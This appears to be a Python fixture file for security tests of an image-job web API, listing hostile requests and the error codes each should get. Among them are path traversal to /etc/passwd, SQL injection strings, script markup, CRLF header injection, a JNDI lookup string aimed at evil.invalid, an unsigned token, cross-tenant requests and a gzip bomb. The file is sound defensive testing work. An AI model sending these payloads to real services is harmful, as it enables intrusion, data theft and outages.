"""Requests to the API, and the status and code of each answer.

In paths and headers ``{job}`` is a job of the caller, ``{theirs}`` and ``{delivery}`` are another
tenant's, ``{key}`` is the caller's key, and the cursors are of other lists.
"""

import base64
import gzip
import json
from dataclasses import dataclass, field

from tests.local.hostile.client import form

CSV = b"name,images\nCup,https://shop.invalid/a.jpg\n"
JSON = {"Content-Type": "application/json"}
BOMB = gzip.compress(bytes(100_000_000), mtime=0)


@dataclass(frozen=True)
class Call:
    """One request; ``code`` is None where the answer is no error."""

    method: str
    path: str
    status: int
    code: str | None = None
    body: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)
    keyed: bool = True


def get(path: str, status: int = 200, code: str | None = None, **headers: str) -> Call:
    return Call("GET", path, status, code, headers=_named(headers))


def post(path: str, status: int, code: str | None = None, **headers: str) -> Call:
    return Call("POST", path, status, code, headers=_named(headers))


def as_json(
    body: str | bytes, code: str | None = "malformed_request", status: int | None = None
) -> Call:
    """A body of JSON that is made a job of, or refused."""
    data = body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body
    usual = {None: 201, "malformed_request": 400}.get(code, 422)
    return Call("POST", "/v1/jobs", status or usual, code, data, JSON)


def field_of(value: object, name: str = "filename", code: str | None = "invalid_request") -> Call:
    return as_json(json.dumps({name: value}), code)


def option(name: str, value: object) -> Call:
    return field_of({name: value}, "options")


def as_type(content_type: str, code: str | None, status: int, body: bytes = CSV) -> Call:
    return Call("POST", "/v1/jobs", status, code, body, {"Content-Type": content_type})


def coded(coding: str, path: str, content_type: str, body: bytes = BOMB) -> Call:
    headers = {"Content-Type": content_type, "Content-Encoding": coding}
    return Call("POST", path, 415, "unsupported_media_type", body, headers)


def query(text: str, code: str | None = "invalid_request") -> Call:
    """Options of a job whose CSV is the body."""
    headers = {"Content-Type": "text/csv"}
    return Call("POST", f"/v1/jobs?{text}", 422 if code else 202, code, CSV, headers)


def nobody(**headers: str) -> Call:
    """A request whose key is none."""
    named = _named(headers)
    return Call("GET", "/v1/jobs", 401, "unauthorized", headers=named, keyed=False)


def cursor(text: str, path: str = "/v1/jobs") -> Call:
    return get(f"{path}?cursor={text}", 422, "invalid_request")


def made(**fields: object) -> str:
    """A cursor as ours are made, of whatever."""
    return base64.urlsafe_b64encode(json.dumps(fields).encode()).decode().rstrip("=")


def _named(headers: dict[str, str]) -> dict[str, str]:
    return {name.replace("_", "-"): value for name, value in headers.items()}


NOT_FOUND, JOB, BAD = "not_found", "job_not_found", "invalid_request"
METHOD = "method_not_allowed"

PATHS = {
    "PUT of jobs": Call("PUT", "/v1/jobs", 405, METHOD),
    "DELETE of a job": Call("DELETE", "/v1/jobs/{job}", 405, METHOD),
    "PATCH of a job": Call("PATCH", "/v1/jobs/{job}", 405, METHOD),
    "GET of a cancellation": get("/v1/jobs/{job}/cancel", 405, METHOD),
    "GET of a dry run": get("/v1/validate", 405, METHOD),
    "POST to a job": post("/v1/jobs/{job}", 405, METHOD),
    "POST to the documentation": post("/docs", 405, METHOD),
    "method that is overridden": get("/v1/jobs", X_HTTP_Method_Override="DELETE"),
    "nothing but a version": get("/v1/", 404, NOT_FOUND),
    "other version": get("/v2/jobs", 404, NOT_FOUND),
    "capitals": get("/V1/JOBS", 404, NOT_FOUND),
    "part of a job that is not": get("/v1/jobs/{job}/secrets", 404, NOT_FOUND),
    "dot file": get("/.env", 404, NOT_FOUND),
    "path upwards": get("/v1/../../etc/passwd", 404, NOT_FOUND),
    "path upwards, encoded": get("/%2e%2e/%2e%2e/etc/passwd", 404, NOT_FOUND),
    "markup": get("/v1/%3Cscript%3E", 404, NOT_FOUND),
    "4,000 characters": get("/" + "a" * 4_000, 404, NOT_FOUND),
}

IDS = {
    f"id: {name}": get(f"/v1/jobs/{text}", 404, JOB)
    for name, text in {
        "number": "1",
        "negative": "-1",
        "word": "latest",
        "nobody's": "01a20a25-981d-7ea6-8e1d-bfea52108785",
        "zeros": "00000000-0000-0000-0000-000000000000",
        "one digit more": "01a20a25-981d-7ea6-8e1d-bfea521087850",
        "one digit less": "01a20a25-981d-7ea6-8e1d-bfea5210878",
        "SQL": "1'%20OR%20'1'='1",
        "template": "%7B%7B7*7%7D%7D",
        "long": "a" * 2_000,
    }.items()
} | {
    f"id: {name}": get(f"/v1/jobs/{text}", 404, NOT_FOUND)
    for name, text in {
        "NUL": "%00",
        "line break": "a%0d%0aSet-Cookie:%20a=b",
        "Unicode": "%E2%98%83",
        "no UTF-8": "%ff%fe",
    }.items()
}

OTHERS = {
    "another tenant's job": get("/v1/jobs/{theirs}", 404, JOB),
    "another tenant's images": get("/v1/jobs/{theirs}/images", 404, JOB),
    "another tenant's result": get("/v1/jobs/{theirs}/result", 404, JOB),
    "another tenant's failures": get("/v1/jobs/{theirs}/failures", 404, JOB),
    "another tenant's deliveries": get("/v1/jobs/{theirs}/deliveries", 404, JOB),
    "cancelling another tenant's job": post("/v1/jobs/{theirs}/cancel", 404, JOB),
    "retrying another tenant's job": post("/v1/jobs/{theirs}/retry", 404, JOB),
    "redelivering for another tenant": post(
        "/v1/deliveries/{delivery}/redeliver", 404, "delivery_not_found"
    ),
    "redelivering nothing": post("/v1/deliveries/1/redeliver", 404, "delivery_not_found"),
}

KEYS = {
    "no key": nobody(),
    "empty key": nobody(X_API_Key=""),
    "unknown key": nobody(X_API_Key="dk_0000000000000000000000000000000000000000000"),
    "key and more": nobody(X_API_Key="{key}x"),
    "half a key": nobody(X_API_Key="{half}"),
    "key in capitals": nobody(X_API_Key="{capitals}"),
    "two keys": nobody(X_API_Key="{key}, {key}"),
    "statement of SQL for a key": nobody(X_API_Key="' OR 1=1 --"),
    "key of 4,000 characters": nobody(X_API_Key="k" * 4_000),
    "key that is not ASCII": nobody(X_API_Key="kéy"),
    "bearer of nothing": nobody(Authorization="Bearer"),
    "bearer twice": nobody(Authorization="Bearer Bearer {key}"),
    "key without a scheme": nobody(Authorization="{key}"),
    "basic credentials": nobody(Authorization="Basic dXNlcjp7a2V5fQ=="),
    "wrong bearer beside the right key": nobody(Authorization="Bearer x", X_API_Key="{key}"),
    "token of nobody": nobody(Authorization="Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0."),
    "key in the query": Call("GET", "/v1/jobs?api_key={key}", 401, "unauthorized", keyed=False),
    "key in a cookie": nobody(Cookie="api_key={key}"),
    "scheme in capitals": Call(
        "GET", "/v1/jobs", 200, headers={"Authorization": "BEARER {key}"}, keyed=False
    ),
}

BODIES = {
    "JSON: nothing": as_json("", None),
    "JSON: white space": as_json("  \n"),
    "JSON: left open": as_json('{"filename": "a.csv"'),
    "JSON: two values": as_json("{} {}"),
    "JSON: text behind": as_json("{}x"),
    "JSON: single quotes": as_json("{'filename': 'a.csv'}"),
    "JSON: comment": as_json("{} // nothing"),
    "JSON: trailing comma": as_json('{"filename": "a.csv",}'),
    "JSON: line break in a text": as_json('{"filename": "a\nb"}'),
    "JSON: unknown escape": as_json('{"filename": "\\x41"}'),
    "JSON: lone surrogate": as_json('{"filename": "\\ud800"}'),
    "JSON: no UTF-8": as_json(b'{"filename": "\xff"}', None, 201),
    "JSON: UTF-16": as_json('{"filename": "a"}'.encode("utf-16")),
    "JSON: byte order mark": as_json("\ufeff{}"),
    "JSON: brackets without end": as_json("[" * 100_000),
    "JSON: deep": as_json('{"a":' * 10_000 + "1" + "}" * 10_000),
    "JSON: list": as_json("[]", BAD),
    "JSON: null": as_json("null", BAD),
    "JSON: number": as_json("1", BAD),
    "JSON: text": as_json('"{}"', BAD),
    "JSON: CSV": as_json(CSV),
    "JSON: form": as_json("filename=a.csv&quality=50"),
    "JSON: the same field twice": as_json('{"filename": "a", "filename": "b"}', None),
    "JSON: unknown field": as_json('{"admin": true}', BAD),
    "JSON: __proto__": as_json('{"__proto__": {"quality": 1}}', BAD),
    "JSON: a thousand unknown fields": as_json(
        json.dumps(dict.fromkeys(map(str, range(999)))), BAD
    ),
    "JSON: name of 100,000 characters": as_json(json.dumps({"a" * 100_000: 1}), BAD),
    "JSON: five megabytes": as_json(json.dumps({"a": "b" * 5_000_000}), "body_too_large", 413),
    "filename: empty": field_of(""),
    "filename: 255 characters": field_of("ä" * 255, code=None),
    "filename: 256 characters": field_of("a" * 256),
    "filename: path upwards": field_of("../../../etc/passwd", code=None),
    "filename: header": field_of("a.csv\r\nSet-Cookie: a=b"),
    "filename: NUL": field_of("a\0.csv"),
    "filename: markup": field_of('"><script>alert(1)</script>.csv', code=None),
    "filename: number": field_of(1),
    "filename: list": field_of(["a.csv"]),
    "filename: null": field_of(None, code=None),
    "webhook_url: line break and a header": field_of(
        "https://shop.invalid/\r\nX-Injected: 1", "webhook_url"
    ),
    "webhook_url: line break in the host": field_of("https://shop\r\n.invalid/", "webhook_url"),
    "webhook_url: line break before it": field_of("\r\nhttps://shop.invalid/", "webhook_url"),
    "webhook_url: carriage return": field_of("https://shop.invalid/\rX: 1", "webhook_url"),
    "webhook_url: line feed at the end": field_of("https://shop.invalid/\n", "webhook_url"),
    "webhook_url: line separator": field_of("https://shop.invalid/\u2028X: 1", "webhook_url"),
    "webhook_url: line break that is not escaped": as_json(
        '{"webhook_url": "https://shop.invalid/\r\nX-Injected: 1"}'
    ),
    "quality: 0": option("quality", 0),
    "quality: 101": option("quality", 101),
    "quality: negative": option("quality", -50),
    "quality: text": option("quality", "50"),
    "quality: fraction": option("quality", 50.5),
    "quality: true": option("quality", True),
    "quality: null": option("quality", None),
    "quality: list": option("quality", [50]),
    "quality: huge": option("quality", 10**30),
    "quality: of 5,000 digits": as_json('{"options": {"quality": ' + "9" * 5_000 + "}}"),
    "quality: NaN": as_json('{"options": {"quality": NaN}}', BAD),
    "quality: infinite": as_json('{"options": {"quality": 1e999}}', BAD),
    "quality: leading zero": as_json('{"options": {"quality": 050}}'),
    "format: unknown": option("format", "gif"),
    "format: capitals": option("format", "JPEG"),
    "format: empty": option("format", ""),
    "width: 0": option("max_width", 0),
    "width: 16,384": option("max_width", 16_384),
    "height: 2 to the 63rd": option("max_height", 2**63),
    "options: text": field_of("quality=50", "options"),
    "options: null": field_of(None, "options"),
    "options: unknown": option("watermark", "x"),
    "options in the query of JSON": Call("POST", "/v1/jobs?quality=50", 422, BAD, b"{}", JSON),
}

TYPES = {
    "type: none": Call("POST", "/v1/jobs", 415, "unsupported_media_type", CSV),
    **{
        f"type: {kind}": as_type(kind, "unsupported_media_type", 415)
        for kind in (
            "text/plain",
            "text/csvx",
            "text/*",
            "*/*",
            "application/xml",
            "application/x-www-form-urlencoded",
            "application/octet-stream",
            "application/vnd.ms-excel",
            "application/problem+json",
            "multipart/mixed; boundary=x",
            "image/png",
            ";",
            "csv",
        )
    },
    "type: capitals": as_type("TEXT/CSV", None, 202),
    "type: a charset that does not matter": as_type("text/csv; charset=ebcdic", None, 202),
    **{
        f"coding: {coding} of {content_type.partition(';')[0]} to {path}": coded(
            coding, path, content_type
        )
        for path in ("/v1/jobs", "/v1/validate")
        for content_type in ("text/csv", "multipart/form-data; boundary=x")
        for coding in ("gzip", "identity, GZIP", "deflate")
    },
    "coding: gzip of a plain CSV": coded("gzip", "/v1/jobs", "text/csv", CSV),
    "coding: gzip of JSON": coded("gzip", "/v1/jobs", "application/json"),
    "gzip bomb that does not say so": as_type("text/csv", "unreadable_text", 422, BOMB),
    "CSV: nothing": as_type("text/csv", "empty_file", 422, b""),
    "CSV: UTF-16": as_type("text/csv", "unreadable_text", 422, CSV.decode().encode("utf-16")),
    "CSV: Windows-1252": as_type("text/csv", "unreadable_text", 422, CSV + b"Caf\xe9,b\n"),
    "CSV: five megabytes": as_type("text/csv", "body_too_large", 413, CSV * 120_000),
    "CSV: just too large": as_type("text/csv", "body_too_large", 413, b"a" * (4 * 1_048_576 + 1)),
    "form: five megabytes": Call(
        "POST", "/v1/jobs", 413, "body_too_large", form(CSV * 120_000)[1], form(b"")[0]
    ),
}

QUERIES = {
    f"query: {text or 'nothing'}": query(text, code)
    for text, code in {
        "quality=0": BAD,
        "quality=101": BAD,
        "quality=abc": BAD,
        "quality=5e1": BAD,
        "quality=0x32": BAD,
        "quality=%D9%A5%D9%A0": BAD,
        "quality=50&quality=200": BAD,
        "quality=200&quality=50": None,
        "quality=": BAD,
        "quality": BAD,
        "quality[]=50": BAD,
        "quality=50,60": BAD,
        "Quality=50": BAD,
        "debug=1": BAD,
        "format=webp%00": BAD,
        "max_width=-1": BAD,
        "max_width=1e9": BAD,
        "filename=%00": BAD,
        "filename=a%0d%0ab": BAD,
        "filename=a%C2%85b": BAD,
        "webhook_url=https://shop.invalid/%0d%0aX:1": BAD,
        "webhook_url=https://shop.invalid/%0a": BAD,
        "filename=%ff": None,
        "&&&": None,
        "=": BAD,
        "%": BAD,
    }.items()
} | {"query: long filename": query("filename=" + "a" * 300)}

LISTS = {
    **{
        f"limit: {text or 'empty'}": get(f"/v1/jobs?limit={text}", 422, BAD)
        for text in (
            "0",
            "-1",
            "1001",
            "1e2",
            "ten",
            "",
            "1.5",
            "9" * 30,
            "1&limit=0",
            "%00",
            "NaN",
        )
    },
    "limit: 1": get("/v1/jobs?limit=1"),
    "limit: 1000": get("/v1/jobs?limit=1000"),
    "status: unknown": get("/v1/jobs?status=finished", 422, BAD),
    "status: SQL": get("/v1/jobs?status=completed'--", 422, BAD),
    "status: of an image": get("/v1/jobs?status=succeeded", 422, BAD),
    "images' status: of a job": get("/v1/jobs/{job}/images?status=completed", 422, BAD),
    "unknown parameter": get("/v1/jobs?order=;drop"),
    "cursor: word": cursor("next"),
    "cursor: SQL": cursor("'%20OR%201=1--"),
    "cursor: NUL": cursor("%00"),
    "cursor: Unicode": cursor("%E2%98%83"),
    "cursor: 10,000 characters": cursor("a" * 5_000),
    "cursor: an id": cursor("{job}"),
    "cursor: no JSON": cursor("YWJj"),
    "cursor: of nothing": cursor(made()),
    "cursor: of numbers": cursor(made(of=1, after=2)),
    "cursor: of a list made up": cursor(made(of="0" * 16, after="{job}")),
    "cursor: another list's": cursor("{images_cursor}"),
    "cursor: another filter's": cursor("{jobs_cursor}&status=completed"),
    "cursor: another tenant's": cursor("{their_cursor}"),
    "cursor: another tenant's, of images": cursor("{their_cursor}", "/v1/jobs/{job}/images"),
    "cursor: with a character more": cursor("{jobs_cursor}x"),
    "cursor: place that is no id": cursor("{forged}"),
    "cursor: place before the first": cursor("{forged_before}", "/v1/jobs/{job}/images"),
    "cursor: place beyond all numbers": cursor("{forged_beyond}", "/v1/jobs/{job}/images"),
    "cursor: place in other digits": cursor("{forged_digits}", "/v1/jobs/{job}/images"),
}

HEADERS = {
    "Idempotency-Key: empty": post("/v1/jobs", 422, BAD, Idempotency_Key=""),
    "Idempotency-Key: 255 characters": post("/v1/jobs", 201, Idempotency_Key="k" * 255),
    "Idempotency-Key: 256 characters": post("/v1/jobs", 422, BAD, Idempotency_Key="k" * 256),
    "Idempotency-Key: not ASCII": post("/v1/jobs", 422, BAD, Idempotency_Key="clé"),
    "Idempotency-Key: tab": post("/v1/jobs", 422, BAD, Idempotency_Key="a\tb"),
    "Idempotency-Key: SQL": post("/v1/jobs", 201, Idempotency_Key="'); DROP TABLE jobs;--"),
    "Idempotency-Key: used for another body": Call(
        "POST",
        "/v1/jobs",
        422,
        "idempotency_key_reused",
        b'{"filename": "other.csv"}',
        JSON | {"Idempotency-Key": "{used}"},
    ),
    "If-None-Match: nonsense": get("/v1/jobs/{job}", 200, If_None_Match='W/"", x, "'),
    "If-None-Match: anything": get("/v1/jobs/{job}", 304, If_None_Match="*"),
    "Range": get("/v1/jobs/{job}", 200, Range="bytes=0-18446744073709551615"),
    "Accept: nothing of ours": get("/v1/jobs", 200, Accept="image/png"),
    "Origin: another site": get("/v1/jobs", 200, Origin="https://evil.invalid"),
    "X-Forwarded-Host: another site": post("/v1/jobs", 201, X_Forwarded_Host="evil.invalid"),
    "Content-Type: another charset": Call(
        "POST", "/v1/jobs", 201, None, b"{}", {"Content-Type": "application/json; charset=evil"}
    ),
    "Cookie: 4,000 characters": get("/v1/jobs", 200, Cookie="a=" + "b" * 4_000),
    "User-Agent: a lookup": get("/v1/jobs", 200, User_Agent="${jndi:ldap://evil.invalid/a}"),
}

STATES = {
    "result of a job without a file": get("/v1/jobs/{waiting}/result", 409, "result_not_ready"),
    "failures of a job without a file": get(
        "/v1/jobs/{waiting}/failures", 409, "failures_not_ready"
    ),
    "retrying a job without a file": post("/v1/jobs/{waiting}/retry", 409, "not_retryable"),
    "cancelling a completed job": post("/v1/jobs/{job}/cancel", 409, "not_cancellable"),
    "retrying what nothing can mend": post("/v1/jobs/{job}/retry", 409, "nothing_to_retry"),
}

FILENAMES = {
    "quotes": ('a"; filename="b.exe".csv', 'a"; filename="b.exe"-result.csv'),
    "backslashes": ('a\\"b\\.csv', "darkroom-result.csv"),
    "semicolons and commas": ("a;b=c,d.csv", "a;b=c,d-result.csv"),
    "text of RFC 2231": ("UTF-8''%0d%0aX: 1.csv", "UTF-8''%0d%0aX: 1-result.csv"),
    "umlauts and a picture": ("Stühle 🪑.csv", "Stühle 🪑-result.csv"),
    "no ASCII at all": ("椅子.csv", "椅子-result.csv"),
    "line separators": ("a\u2028b\u2029c.csv", "a\u2028b\u2029c-result.csv"),
    "right-to-left override": ("a\u202evsc.exe", "avsc.exe-result.csv"),
    "markup": ("<script>alert(1)</script>.csv", "script>-result.csv"),
    "path upwards": ("../../etc/passwd", "passwd-result.csv"),
    "path of Windows": ("C:\\CON.csv", "CON-result.csv"),
    "255 characters": ("ä" * 251 + ".csv", "ä" * 251 + "-result.csv"),
    "formula": ("=1+1.csv", "=1+1-result.csv"),
    "an end alone": (".csv", "darkroom-result.csv"),
}
"""What a CSV may be called, and what its result is then saved as."""

CALLS = PATHS | IDS | OTHERS | KEYS | BODIES | TYPES | QUERIES | LISTS | HEADERS | STATES
